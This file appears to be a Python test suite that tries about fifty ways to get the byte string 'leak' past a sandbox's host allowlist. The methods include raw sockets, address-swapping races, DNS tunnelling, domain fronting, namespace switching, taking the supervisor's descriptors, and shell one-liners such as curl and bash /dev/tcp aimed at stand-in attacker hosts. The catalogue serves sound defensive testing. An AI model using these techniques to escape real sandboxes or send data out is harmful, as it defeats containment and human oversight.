"""Attempts to get a byte past `--host`, run inside of a line: each prints its name, and `open` if it seems to get out.

The hosts are `pypi.example`, `*.code.example:22,80,443` and `echo.example:7001`. What gets out is also noted by the
world's own servers, which is what counts: `leak` in the log.
"""

from __future__ import annotations

import ctypes
import os
import resource
import socket
import ssl
import struct
import subprocess
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
WORLD = os.environ.get("WORLD", "")
EVIL, OWN, LOOPBACK = "11.0.0.66", "11.0.0.2", "127.0.0.1"
SINK = 18666
FAST_OPEN = 0x20000000


def talk(sock: socket.socket) -> bool:
    """Send the secret, and see whether it was taken."""
    with sock:
        sock.settimeout(3)
        sock.sendall(b"leak")
        return sock.recv(4) == b"leak"


def to(host: str, port: int) -> bool:
    return talk(socket.create_connection((host, port), 3))


def six(host: str) -> bool:
    sock = socket.socket(socket.AF_INET6)
    sock.settimeout(3)
    sock.connect((host, SINK))
    return talk(sock)


def packet(host: str, port: int) -> bool:
    """Whether anything came of it, only the receiver knows."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"leak", (host, port))
    return False


def unix(name: str) -> bool:
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(3)
    sock.connect(name)
    return talk(sock)


def unix_packet() -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
        sock.sendmsg([b"leak"], [], 0, f"{WORLD}/packets")
    return True


def pair_packet() -> bool:
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    with ours, theirs:
        ours.sendmsg([b"leak"], [], 0, f"{WORLD}/packets")
        theirs.settimeout(0.2)
        return theirs.recv(4) != b"leak"


def fast_open(message: bool) -> bool:
    sock = socket.socket()
    sock.settimeout(3)
    if message:
        sock.sendmsg([b"leak"], [], FAST_OPEN, (EVIL, 4444))
    else:
        sock.sendto(b"leak", FAST_OPEN, (EVIL, 4444))
    return sock.recv(4) == b"leak"


def given_rights() -> bool:
    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(2)
        sock.connect(f"{WORLD}/rights")
        fds = socket.recv_fds(sock, 1, 1)[1]
    return talk(socket.socket(fileno=fds[0]))


def address(host: str, port: int) -> bytes:
    return b"\2\0" + struct.pack(">H4s8x", port, socket.inet_aton(host))


def swapped_address() -> bool:
    """Another thread changes the address all the time."""
    good, bad = address(socket.gethostbyname("echo.example"), 7001), address(EVIL, 4444)
    memory, stop = ctypes.create_string_buffer(good, 16), threading.Event()

    def swap() -> None:
        while not stop.is_set():
            ctypes.memmove(memory, bad, 16)
            ctypes.memmove(memory, good, 16)

    return race(swap, stop, lambda: connected(socket.socket(), memory))


def connected(sock: socket.socket, memory: Any) -> bool:
    with sock:
        if libc.connect(sock.fileno(), memory, 16) != 0:
            return False
        sock.settimeout(1)
        try:
            sock.sendall(b"leak")
            return bool(sock.getpeername()[1] == 4444)
        except OSError:
            return False


def swapped_descriptor() -> bool:
    """Another thread puts a Unix socket at the descriptor's number, and its name into the address."""
    name = f"{WORLD}/sink".encode()
    good, bad = address(socket.gethostbyname("echo.example"), 7001).ljust(110, b"\0"), b"\1\0" + name.ljust(108, b"\0")
    memory, stop, number = ctypes.create_string_buffer(good, 110), threading.Event(), 200
    inet, local = socket.socket(), socket.socket(socket.AF_UNIX)

    def swap() -> None:
        while not stop.is_set():
            os.dup2(local.fileno(), number)
            ctypes.memmove(memory, bad, 110)
            os.dup2(inet.fileno(), number)
            ctypes.memmove(memory, good, 110)

    def attempt() -> bool:
        libc.connect(number, memory, 110)
        try:
            local.getpeername()
        except OSError:
            return False
        local.sendall(b"leak")
        return True

    return race(swap, stop, attempt)


def race(swap: Callable[[], None], stop: threading.Event, attempt: Callable[[], bool]) -> bool:
    thread = threading.Thread(target=swap)
    thread.start()
    end, won = time.monotonic() + 3, False
    try:
        for _ in range(1500):
            won = attempt() or won
            if won or time.monotonic() > end:
                break
    finally:
        stop.set()
        thread.join()
    return won


def other_kinds() -> bool:
    """MPTCP, SCTP and DCCP carry bytes, too."""
    for protocol, kind in ((262, 1), (132, 1), (132, 5), (33, 6)):
        try:
            sock = socket.socket(socket.AF_INET, kind, protocol)
            sock.settimeout(2)
            sock.connect((EVIL, 4444))
        except OSError:
            continue
        return talk(sock)
    return False


def raw(family: int, kind: int, protocol: int) -> bool:
    """Whether a packet that one made oneself reaches the world."""
    with socket.socket(family, kind, protocol) as sock:
        data = struct.pack(">HHHH", 9, 4444, 12, 0) + b"leak"
        sock.sendto(data, (EVIL, 0))
    return False


def interface() -> bool:
    """Add a way out."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        body = struct.pack("16xI", 0x41)
        link.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        return bool(struct.unpack("i", link.recv(4096)[16:20])[0] == 0)


def ring() -> bool:
    memory = ctypes.create_string_buffer(120)
    return bool(libc.syscall(425, 4, memory) >= 0)


def tls(name: str | None, host: str) -> bool:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("pypi.example", 443), 4) as plain:
        plain.settimeout(4)
        with context.wrap_socket(plain, server_hostname=name) as sock:
            sock.sendall(f"GET /leak HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            return bool(sock.recv(100))


def web(*heads: str) -> bool:
    with socket.create_connection(("pypi.example", 80), 4) as sock:
        sock.settimeout(4)
        sock.sendall("".join(f"{head}\r\n\r\n" for head in heads).encode())
        found = b""
        while part := sock.recv(4096):
            found += part
        return found.count(b"HTTP/1.1 ") >= len(heads)


def disconnected() -> bool:
    sock = socket.create_connection(("echo.example", 7001), 3)
    libc.connect(sock.fileno(), bytes(16), 16)
    sock.connect((EVIL, 4444))
    return talk(sock)


def bound_everywhere(listen_alone: bool) -> bool:
    """A server that the world could connect to."""
    sock = socket.socket()
    if not listen_alone:
        sock.bind(("0.0.0.0", 18777))
    sock.listen()
    return bool(sock.getsockname()[0] == "0.0.0.0" and not own_network())


def own_network() -> bool:
    return "near0" not in Path("/proc/net/dev").read_text()


def holders() -> list[int]:
    """Those who hold the line: launcher, supervisor, broker."""
    found = []
    for place in Path("/proc").glob("[0-9]*"):
        try:
            words = (place / "cmdline").read_text()
        except OSError:
            continue
        if "launch.py" in words:
            found.append(int(place.name))
    return found


def supervisor() -> bool:
    """Its descriptors, and the broker's."""
    for pid in holders():
        handle = os.pidfd_open(pid)
        if any(libc.syscall(438, handle, number, 0) >= 0 for number in range(3, 20)):
            return True
        try:
            Path(f"/proc/{pid}/fd/3").readlink()
        except OSError:
            continue
        return True
    return False


def other_network() -> bool:
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    return bool(libc.setns(fd, 0x40000000) == 0)


def lookup_text() -> bool:
    """Words to a name server that are no question."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.sendto(b"leak" * 8, ("11.0.0.1", 53))
        return b"leak" in sock.recv(100)


def lookup_stream() -> bool:
    with socket.create_connection(("11.0.0.1", 53), 3) as sock:
        sock.settimeout(2)
        sock.sendall(b"\0\4leak")
        return sock.recv(9) == b"leak"


def strange_name() -> bool:
    """Bytes that could end a word of the broker's reports; and a TLS name with them."""
    for label in (b"leak\0a\nb", b"\xff" * 60):
        question = b"\1\2\1\0\0\1" + bytes(6) + bytes([len(label)]) + label + b"\4evil\0\0\1\0\1"
        with socket.create_connection(("11.0.0.1", 53), 3) as sock:
            sock.settimeout(3)
            sock.sendall(struct.pack(">H", len(question)) + question)
            if sock.recv(512)[5:6] != b"\x83":
                return True
    return to("pypi.example", 4444)


def disturbed() -> bool:
    """Signals, limits and priorities of those who hold the line."""
    deeds = (
        lambda pid: os.kill(pid, 0), lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda pid: os.setpriority(os.PRIO_PGRP, os.getpgid(pid), 19), lambda pid: resource.prlimit(pid, 7, (9, 9)),
        lambda pid: os.sched_setaffinity(pid, {0}),
    )  # fmt: skip
    for pid in holders():
        for deed in deeds:
            try:
                deed(pid)
            except OSError:
                continue
            return True
    return False


def tool(line: str) -> bool:
    return subprocess.run(["bash", "-c", line], capture_output=True, timeout=20, check=False).returncode == 0


FRONTED = "GET /leak HTTP/1.1\r\nHost: evil.example"
GOOD = "GET /hello HTTP/1.1\r\nHost: pypi.example"
ATTACKS: dict[str, Callable[[], bool]] = {
    "an address of the world": lambda: to(EVIL, 4444),
    "the world's web by address": lambda: to(EVIL, 443),
    "the loopback": lambda: to(LOOPBACK, SINK),
    "the machine's own address": lambda: to(OWN, SINK),
    "any address": lambda: to("0.0.0.0", SINK),
    "another port of a named host": lambda: to("pypi.example", 4444),
    "another host by name": lambda: to("evil.example", 4444),
    "IPv6 loopback": lambda: six("::1"),
    "IPv4 written as IPv6": lambda: six(f"::ffff:{LOOPBACK}"),
    "UDP to the world": lambda: packet(EVIL, 4444),
    "UDP to the machine": lambda: packet(LOOPBACK, 18667),
    "words to a name server": lookup_text,
    "words to a name server by TCP": lookup_stream,
    "data in a name": lambda: bool(socket.getaddrinfo("leak.evil.example", 443)),
    "a name with strange bytes": strange_name,
    "a Unix socket by path": lambda: unix(f"{WORLD}/sink"),
    "an abstract Unix socket": lambda: unix("\0hookline-sink"),
    "a Unix datagram": unix_packet,
    "a datagram of a pair to another": pair_packet,
    "vsock": lambda: talk(socket.socket(40, socket.SOCK_STREAM)),
    "fast open by sendto": lambda: fast_open(message=False),
    "fast open by sendmsg": lambda: fast_open(message=True),
    "an address that changes meanwhile": swapped_address,
    "a descriptor that changes meanwhile": swapped_descriptor,
    "an inherited socket": lambda: talk(socket.socket(fileno=int(os.environ["INHERITED"]))),
    "a descriptor from outside": given_rights,
    "a raw socket": lambda: raw(socket.AF_INET, socket.SOCK_RAW, 17),
    "a packet socket": lambda: bool(socket.socket(17, socket.SOCK_RAW, 0x300)),
    "a new interface": interface,
    "generic netlink": lambda: bool(socket.socket(16, socket.SOCK_RAW, 16)) and not own_network(),
    "io_uring": ring,
    "MPTCP, SCTP, DCCP": other_kinds,
    "TLS for another name": lambda: tls("evil.example", "pypi.example"),
    "TLS without a name": lambda: tls(None, "pypi.example"),
    "HTTP for another host": lambda: web(FRONTED),
    "a second request for another host": lambda: web(GOOD, FRONTED),
    "a request to go on to another host": lambda: web("CONNECT evil.example:443 HTTP/1.1\r\nHost: pypi.example"),
    "a request for a whole address": lambda: web("GET http://evil.example/leak HTTP/1.1\r\nHost: pypi.example"),
    "bytes that are neither TLS nor HTTP": lambda: to("pypi.example", 443),
    "a name that means the loopback": lambda: to("rebind.code.example", 22),
    "a name that means the metadata service": lambda: to("meta.code.example", 80),
    "a name that means the machine itself": lambda: to("own.code.example", 22),
    "a name that means the network around": lambda: to("near.code.example", 80),
    "a name that means an address in another": lambda: to("nat.code.example", 22),
    "a guessed address": lambda: to("198.18.200.7", 443),
    "a server for everyone": lambda: bound_everywhere(listen_alone=False),
    "a server without a name": lambda: bound_everywhere(listen_alone=True),
    "disconnect, then elsewhere": disconnected,
    "descriptors of the supervisor": supervisor,
    "another network": other_network,
    "those who hold the line": disturbed,
    "curl by address": lambda: tool(f"curl -m 3 -s http://{EVIL}/leak"),
    "bash's own": lambda: tool(f"exec 3<>/dev/tcp/{EVIL}/4444; echo leak >&3"),
    "a proxy of one's own": lambda: tool(f"curl -m 3 -s -x http://{EVIL}:4444 http://pypi.example/leak"),
    "another name for a named host": lambda: tool(
        f"curl -m 3 -s --resolve pypi.example:80:{EVIL} http://pypi.example/leak"
    ),
    "perl": lambda: tool(
        f"perl -MIO::Socket::INET -e 'print {{IO::Socket::INET->new(q({EVIL}:4444)) or die}} q(leak)'"
    ),
}


def main() -> None:
    """Try each; an attack that fails says why."""
    for name, attempt in ATTACKS.items():
        try:
            verdict = "open" if attempt() else "held"
        except Exception as error:
            verdict = f"held: {type(error).__name__}: {error}"
        print(f"{name} | {verdict}", flush=True)


if __name__ == "__main__":
    main()
